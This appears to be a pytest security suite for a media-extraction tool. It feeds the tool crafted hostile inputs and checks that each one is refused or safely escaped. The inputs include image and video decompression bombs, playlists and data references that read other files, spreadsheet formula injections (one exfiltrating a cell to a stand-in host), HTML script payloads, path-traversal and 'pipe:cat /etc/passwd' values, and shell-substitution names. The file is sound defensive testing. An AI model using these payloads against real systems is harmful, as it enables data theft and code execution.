"""Images, videos and lists of them that are made to do harm; one whole extraction, and what a reader by itself says."""

from __future__ import annotations

import csv
import io
import os
import shutil
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import av
import cv2
import numpy as np
import pytest
from click.testing import CliRunner
from PIL import Image

import hostile_media as media
from conftest import SMALL, flowkit
from flowkit.cli import main
from flowkit.errors import ClipError, FailureCode, ManifestError
from flowkit.inputs.images import decode_image
from flowkit.inputs.manifest import REQUIRED, read_manifest
from flowkit.inputs.mp4_headers import header_problem
from flowkit.inputs.videos import read_footage
from flowkit.storage.folder import ShardFolder
from hostile_files import KINDS, little_memory, no_file

FORMULAS = ("=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", '=HYPERLINK("http://192.0.2.1/?"&A1,"x")')
SCRIPT = "<script>alert(1)</script>"
MARKUP = ("</td></tr></table><h1>x", "<img src=http://192.0.2.1/x.png onerror=alert(1)>", "&lt;b&gt;\"'", SCRIPT)


def code_of(data: bytes) -> FailureCode:
    with pytest.raises(ClipError) as caught:
        decode_image(data, "1.png")
    return caught.value.code


def refused(path: Path) -> FailureCode:
    with pytest.raises(ClipError) as caught:
        read_footage(path, (0, 1, 2), path.name)
    return caught.value.code


# ------------------------------------------------------------------------------------------------------------------ images


@pytest.mark.parametrize("side", [7072, 12_000])
def test_a_png_bomb_is_not_unpacked(side: int) -> None:
    data = media.png(side, media.pixels(side))
    assert len(data) < 3 * side**2 / 100
    with little_memory():
        assert code_of(data) == FailureCode.IMAGE_TOO_LARGE


@pytest.mark.parametrize("chunk", [b"zTXtKey\0\0", b"iCCPKey\0\0", b"iTXtKey\0\1\0\0\0"])
def test_bombs_beside_the_pixels_are_not_unpacked(chunk: bytes) -> None:
    data = media.png(media.SIDE, chunk + media.pixels(8000)[4:], media.pixels(media.SIDE))
    with little_memory():
        assert code_of(data) == FailureCode.IMAGE_UNREADABLE


TIFFS: dict[str, tuple[dict[str, tuple[int, int, int]], FailureCode | None]] = {
    "honest": ({}, None),
    "4 gigapixels": ({"t256": (4, 1, 65_535), "t257": (4, 1, 65_535)}, FailureCode.IMAGE_TOO_LARGE),
    "64 bits a sample": ({"t258": (3, 1, 64)}, FailureCode.IMAGE_UNREADABLE),
    "60,000 samples a pixel": ({"t277": (3, 1, 60_000)}, FailureCode.IMAGE_UNREADABLE),
    "pixels behind the end": ({"t273": (4, 1, 2**32 - 1)}, FailureCode.IMAGE_TRUNCATED),
    "a tag of 2 billion values": ({"t258": (3, 2**31, 300)}, None),
    "tiles of 2 billion": ({"t322": (4, 1, 2**31), "t323": (4, 1, 2**31), "t324": (4, 1, 300)}, None),
    "an orientation of text": ({"t274": (2, 4, 0x41414141)}, None),
    "garbage in LZW": ({"t259": (3, 1, 5)}, FailureCode.IMAGE_UNREADABLE),
    "garbage in JPEG": ({"t259": (3, 1, 7)}, FailureCode.IMAGE_UNREADABLE),
    "garbage in deflate": ({"t259": (3, 1, 8)}, FailureCode.IMAGE_UNREADABLE),
}


@pytest.mark.parametrize("name", TIFFS)
def test_absurd_tags_of_a_tiff_do_no_harm(name: str) -> None:
    changes, code = TIFFS[name]
    with little_memory():
        if code is None:
            assert decode_image(media.tiff(**changes), "1.tif").pixels.shape == (media.SIDE, media.SIDE)
        else:
            assert code_of(media.tiff(**changes)) == code


@pytest.mark.parametrize("form", ["PNG", "WEBP"])
def test_of_an_animation_the_first_frame_is_read(form: str) -> None:
    assert decode_image(media.animated(form), "1.png").pixels.max() == 0


def test_what_is_no_picture_is_refused_whatever_it_is_called(tmp_path: Path) -> None:
    """No PostScript runs, no link of an SVG is looked up, no GIF is played."""
    mark = tmp_path / "ran"
    pdf = io.BytesIO()
    Image.new("RGB", (96, 96)).save(pdf, "PDF")
    for data in (media.postscript(mark), media.svg("file:///etc/hostname"), pdf.getvalue(), media.animated("GIF")):
        assert code_of(data) == FailureCode.IMAGE_UNREADABLE
    assert not mark.exists()


# ------------------------------------------------------------------------------------------------------------------ videos


@pytest.fixture(scope="module")
def frames(cropped: Path) -> list[np.ndarray]:
    """Onset, apex and offset of the first clip of `cropped`."""
    clip = read_manifest(cropped)[0]
    return [cv2.imread(str(path)) for path in sorted((cropped.parent / clip.path).glob("*.png"))]


def test_pictures_in_another_file_are_not_read(tmp_path: Path, frames: list[np.ndarray]) -> None:
    secret = media.video(tmp_path / "secret.mov", "mpeg4", frames)
    hostile = tmp_path / "clip.mov"
    hostile.write_bytes(media.with_pictures_elsewhere(secret.read_bytes(), b"secret.mov"))
    with av.open(str(hostile), format="mp4", options={"enable_drefs": "1"}) as container:  # one that trusts reads them
        leaked = [frame.to_ndarray(format="rgb24") for frame in container.decode(video=0)]
    with av.open(str(secret)) as container:
        assert np.array_equal(leaked, [frame.to_ndarray(format="rgb24") for frame in container.decode(video=0)])
    assert refused(hostile) == FailureCode.FRAME_MISSING


PLAYLISTS = {
    "list.avi": "ffconcat version 1.0\nfile secret.mkv\n",
    "list.mp4": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nsecret.mkv\n#EXT-X-ENDLIST\n",
    "list.m3u8": "#EXTM3U\n#EXTINF:9,\nfile:secret.mkv\n#EXT-X-ENDLIST\n",
    "session.mov": "v=0\no=- 0 0 IN IP4 192.0.2.1\nc=IN IP4 192.0.2.1\nm=video 9 RTP/AVP 96\n",
    "dash.mkv": '<?xml version="1.0"?><MPD><BaseURL>secret.mkv</BaseURL></MPD>',
}


@pytest.mark.parametrize("name", PLAYLISTS)
def test_a_playlist_is_no_video_whatever_it_is_called(tmp_path: Path, frames: list[np.ndarray], name: str) -> None:
    media.video(tmp_path / "secret.mkv", "ffv1", frames)
    (tmp_path / name).write_text(PLAYLISTS[name])
    if name == "list.avi":
        with av.open(str(tmp_path / name), options={"safe": "0"}) as container:  # one that probes plays the other file
            assert len(list(container.decode(video=0))) == len(frames)
    assert refused(tmp_path / name) == FailureCode.VIDEO_FORMAT_REFUSED


@pytest.mark.parametrize("head", [b"RIFF\0\0\0\0AVI ", b"\x1aE\xdf\xa3", b"\0\0\0\x18ftypisom", b"\0\0\0\x08moov"])
def test_a_playlist_behind_the_first_bytes_of_a_video_is_none(tmp_path: Path, head: bytes) -> None:
    (tmp_path / "x.avi").write_bytes(head + PLAYLISTS["list.avi"].encode())
    assert refused(tmp_path / "x.avi") in (FailureCode.VIDEO_UNREADABLE, FailureCode.FRAME_MISSING)


@pytest.mark.parametrize("name", ["samples", "edits", "fragment", "compressed header"])
def test_headers_that_declare_more_than_the_file_holds_are_refused(
    tmp_path: Path, frames: list[np.ndarray], name: str
) -> None:
    """Read by FFmpeg they cost gigabytes."""
    honest = media.video(tmp_path / "honest.mp4", "libx264", frames * 10)
    assert header_problem(honest) == ""
    data = {
        "samples": lambda: media.declaring(honest.read_bytes(), 80_000_000),
        "edits": lambda: media.edited(honest.read_bytes(), 5_000),
        "fragment": lambda: media.fragmented(80_000_000),
        "compressed header": lambda: media.compressed_header(300_000_000),
    }[name]()
    (tmp_path / "x.mp4").write_bytes(data)
    with little_memory():
        assert refused(tmp_path / "x.mp4") == FailureCode.VIDEO_UNREADABLE
    assert header_problem(tmp_path / "x.mp4")


def test_frames_larger_than_the_container_says_are_not_decoded(tmp_path: Path) -> None:
    path = media.pretending(tmp_path / "x.avi", 9_000, media.SIDE)
    with av.open(str(path)) as container:
        assert next(container.decode(video=0)).width == 9_000
    with little_memory():
        assert refused(path) in (FailureCode.VIDEO_UNREADABLE, FailureCode.IMAGE_TOO_LARGE)


# -------------------------------------------------------------------------------------------------------- a whole extraction


class Corpus:
    """A root full of hostile sources, and the code that each clip must end with."""

    def __init__(self, root: Path, frames: list[np.ndarray]) -> None:
        self.root, self.frames = root, frames
        self.rows: list[dict[str, str]] = []
        self.codes: dict[str, str] = {}

    def add(self, name: str, code: str, path: str = "", **cells: str) -> None:
        """A row."""
        self.rows.append(
            {
                **dict(zip(REQUIRED, (name, path or name, "1", "2", "3", "s", "d", "x"), strict=True)),
                "note": "",
                **cells,
            }
        )
        self.codes[name] = code

    def clip(self, name: str, code: str, **cells: str) -> Path:
        """A good folder of frames, for the caller to spoil."""
        folder = self.root / name
        folder.mkdir(parents=True)
        for number, frame in enumerate(self.frames, start=1):
            cv2.imwrite(str(folder / f"{number}.png"), frame)
        self.add(name, code, **cells)
        return folder

    def write(self) -> Path:
        path = self.root / "manifest.csv"
        with path.open("w", newline="") as file:
            writer = csv.DictWriter(file, list(self.rows[0]))
            writer.writeheader()
            writer.writerows(self.rows)
        return path


def spoil_images(corpus: Corpus) -> None:
    mark = corpus.root.parent / "ran"
    pictures: dict[str, tuple[bytes, str]] = {
        "png bomb": (media.png(12_000, media.pixels(12_000)), "IMAGE_TOO_LARGE"),
        "postscript": (media.postscript(mark), "IMAGE_UNREADABLE"),
        "svg": (media.svg("http://192.0.2.1/x"), "IMAGE_UNREADABLE"),
        "gif": (media.animated("GIF"), "IMAGE_UNREADABLE"),
        "video as image": (media.fragmented(1), "IMAGE_UNREADABLE"),
        "playlist as image": (PLAYLISTS["list.avi"].encode(), "IMAGE_UNREADABLE"),
    }
    for name, (data, code) in pictures.items():
        (corpus.clip(name, code) / "2.png").write_bytes(data)
    secret = corpus.root.parent / "secret.png"
    cv2.imwrite(str(secret), corpus.frames[0])
    for name, target in {"link to a secret": secret, "link to a device": Path("/dev/zero")}.items():
        picture = corpus.clip(name, "PATH_REFUSED") / "2.png"
        picture.unlink()
        picture.symlink_to(target)
    for kind in ("pipe", "socket"):
        no_file(corpus.clip(f"{kind} as image", "IMAGE_UNREADABLE") / "2.png", kind)
    no_file(corpus.clip("folder as image", "FRAME_MISSING") / "2.png", "folder")
    no_file(corpus.clip("endless image", "IMAGE_TOO_LARGE") / "2.png", "endless")
    folder = corpus.clip("no text in its name", "IMAGE_UNREADABLE")
    (folder / "2.png").rename(folder / os.fsdecode(b"\xff\x1b[2J2.png"))
    (folder / os.fsdecode(b"\xff\x1b[2J2.png")).write_bytes(b"no picture")


def spoil_videos(corpus: Corpus) -> None:
    root = corpus.root
    honest = media.video(root / "honest.mp4", "libx264", corpus.frames * 5).read_bytes()
    files: dict[str, tuple[bytes, str]] = {
        "list.avi": (PLAYLISTS["list.avi"].encode(), "VIDEO_FORMAT_REFUSED"),
        "list.mp4": (PLAYLISTS["list.mp4"].encode(), "VIDEO_FORMAT_REFUSED"),
        "samples.mp4": (media.declaring(honest, 80_000_000), "VIDEO_UNREADABLE"),
        "header.mov": (media.compressed_header(300_000_000), "VIDEO_UNREADABLE"),
        "image.avi": (media.png(media.SIDE, media.pixels(media.SIDE)), "VIDEO_FORMAT_REFUSED"),
    }
    for name, (data, code) in files.items():
        (root / name).write_bytes(data)
        corpus.add(name, code)
    secret = media.video(root.parent / "secret.mov", "mpeg4", corpus.frames)
    (root / "link.mov").symlink_to(secret)
    corpus.add("link.mov", "PATH_REFUSED")
    (root / "elsewhere.mov").write_bytes(media.with_pictures_elsewhere(secret.read_bytes(), b"secret.mov"))
    shutil.copy(secret, root / "secret.mov")
    corpus.add("elsewhere.mov", "FRAME_MISSING")
    for kind, code in {"pipe": "VIDEO_UNREADABLE", "socket": "VIDEO_UNREADABLE", "device": "PATH_REFUSED"}.items():
        no_file(root / f"{kind}.mp4", kind)
        corpus.add(f"{kind}.mp4", code)


def spoil_texts(corpus: Corpus) -> None:
    for number, text in enumerate((*FORMULAS, *MARKUP)):
        corpus.clip(f"text {number}", "ok")
        corpus.rows[-1] |= {"clip_id": text, "label": text, "subject": text, "note": text}
        corpus.codes[text] = corpus.codes.pop(f"text {number}")
    corpus.add(f"{SCRIPT} is missing", "FRAME_MISSING")


@pytest.fixture(scope="module")
def corpus(frames: list[np.ndarray], tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    made = Corpus(tmp_path_factory.mktemp("hostile") / "clips", frames)
    for spoil in (spoil_images, spoil_videos, spoil_texts):
        spoil(made)
    made.clip("good", "ok")
    return made


@pytest.fixture(scope="module")
def extracted(corpus: Corpus) -> ShardFolder:
    out = corpus.root.parent / "out"
    done = flowkit("extract", corpus.write(), "--out", out, *SMALL, "--max-error-rate", "1", "--timeout", "60")
    assert done.code == 1, done.err
    assert "Traceback" not in done.err
    return ShardFolder.open(out)


def test_every_hostile_source_ends_as_its_code_and_costs_no_other_clip(corpus: Corpus, extracted: ShardFolder) -> None:
    found = {clip["clip_id"]: "ok" for clip in extracted.clips()}
    found |= {failure["clip_id"]: str(failure["code"]) for failure in extracted.failures()}
    assert found == corpus.codes
    assert not (corpus.root.parent / "ran").exists()


def test_check_says_the_same_without_computing_anything(corpus: Corpus) -> None:
    done = flowkit("check", corpus.write())
    assert (done.code, "Traceback" in done.err) == (1, False), done.err


def test_texts_that_mean_something_to_a_spreadsheet_are_carried_as_they_are(extracted: ShardFolder) -> None:
    stored = {sample["clip_id"]: sample for shard in extracted.shards() for sample in shard.samples()}
    for text in (*FORMULAS, *MARKUP):
        assert (stored[text]["label"], stored[text]["subject"]) == (text, text)


class Page(HTMLParser):
    """What a browser would see: elements, what they would load, and the text."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.loads: list[str] = []
        self.handlers: list[str] = []
        self.text = ""
        self.feed(path.read_text(encoding="utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on")]
        self.loads += [
            value or "" for name, value in attrs if name in ("src", "srcset", "data", "action", "background")
        ]

    def handle_data(self, data: str) -> None:
        self.text += data


def test_texts_that_mean_something_to_a_browser_are_shown_as_they_are(extracted: ShardFolder) -> None:
    page = Page(extracted.path / "report.html")
    assert not {"script", "iframe", "object", "embed", "link", "form", "base"} & set(page.elements)
    assert page.elements.count("h1") == 1
    assert page.handlers == []
    assert all(load.startswith("data:image/png;base64,") for load in page.loads)
    for text in (*FORMULAS, *MARKUP, f"{SCRIPT} is missing"):
        assert text in page.text


# ---------------------------------------------------------------------------------------------------------------- manifests

PATHS = (
    "../clips/good",
    "good/../../clips/good",
    "/etc/passwd",
    "~/clip",
    "~root/clip",
    "http://192.0.2.1/clip.mp4",
    "HTTPS://192.0.2.1/clip.mp4",
    "file:clip.mp4",
    "file:///etc/passwd",
    "pipe:0",
    "pipe:cat /etc/passwd",
    "concat:a.mp4|b.mp4",
    "/dev/stdin",
    "data:text/plain,x",
    "crypto:a.mp4",
    "C:clip.mp4",
    r"C:\clips\a.mp4",
    r"..\clips\good",
    r"\\server\share\a.mp4",
    "frames%03d.png",
    "frames%d.png",
    "a\0b",
    "a\nb",
    "a\x1b[2Jb",
    "a\x85b",
    "x" * 600,
    "x/" * 300,
)


@pytest.mark.parametrize("path", PATHS, ids=repr)
def test_a_path_that_could_lead_out_of_the_root_is_refused_before_anything_is_read(tmp_path: Path, path: str) -> None:
    manifest = tmp_path / "clips.csv"
    with manifest.open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(REQUIRED)
        writer.writerow(["c", path, 1, 2, 3, "s", "d", "x"])
    with pytest.raises(ManifestError, match=r"clips\.csv:[23]: path must be"):
        read_manifest(manifest)


def test_a_line_has_an_end(tmp_path: Path) -> None:
    (tmp_path / "clips.csv").write_text(",".join(REQUIRED) + "\n" + "x" * 3_000_000)
    with pytest.raises(ManifestError, match="a line of more than 1048576 characters"):
        read_manifest(tmp_path / "clips.csv")


NAMES = (
    "-",
    "CON",
    "con.mp4",
    "nul",
    ".",
    "...",
    "a/./b",
    "subfile,,start,0,end,9,,:a.mp4",
    "a b|c",
    "$(touch x)",
    "`x`",
)


def test_names_that_mean_something_elsewhere_are_names_here(tmp_path: Path) -> None:
    """Nothing but the file of that name under the root is opened."""
    with (tmp_path / "clips.csv").open("w", newline="") as file:
        csv.writer(file).writerows([REQUIRED, *([name, name, 1, 2, 3, "s", "d", "x"] for name in NAMES)])
    done = flowkit("extract", tmp_path / "clips.csv", "--out", tmp_path / "out", *SMALL, "--max-error-rate", "1")
    assert done.code == 1, done.err
    failures = {failure["clip_id"]: failure["code"] for failure in ShardFolder.open(tmp_path / "out").failures()}
    assert failures == dict.fromkeys(NAMES, "FRAME_MISSING")
    assert {path.name for path in tmp_path.iterdir()} == {"clips.csv", "out"}


def _as_manifest(path: Path, _: Path) -> tuple[str | Path, ...]:
    return ("extract", path, "--align", "none", "--out", path.with_name("out"))


READERS: dict[str, tuple[Callable[[Path, Path], tuple[str | Path, ...]], int]] = {
    "manifest": (_as_manifest, 2),
    "manifest of check": (lambda path, _: ("check", path), 2),
    "--config": (lambda path, m: ("extract", m, "--out", m.with_name("out"), "--config", path), 2),
    "--landmarks": (
        lambda path, m: ("extract", m, "--out", m.with_name("out"), "--align", "landmarks", "--landmarks", path),
        2,
    ),
    "--face-model": (lambda path, m: ("extract", m, "--out", m.with_name("out"), "--face-model", path), 3),
    "list of an import": (lambda path, _: ("import", "stst", path.parent, "--out", path.with_name("out")), 2),
}


@pytest.mark.timeout(180)
@pytest.mark.parametrize("reader", READERS)
def test_what_is_no_file_is_never_waited_for_in_place_of_settings(cropped: Path, tmp_path: Path, reader: str) -> None:
    make, code = READERS[reader]
    manifest = Path(shutil.copy(cropped, tmp_path / "clips.csv"))
    for kind in KINDS:
        path = tmp_path / ("combined_3dmegc.csv" if reader.startswith("list") else kind)
        no_file(path, kind)
        with little_memory():
            done = CliRunner().invoke(main, list(map(str, make(path, manifest))))
        assert (done.exit_code, type(done.exception)) == (code, SystemExit), (kind, done.exception)
        assert not (tmp_path / "out").exists()
        path.rmdir() if kind == "folder" else path.unlink()
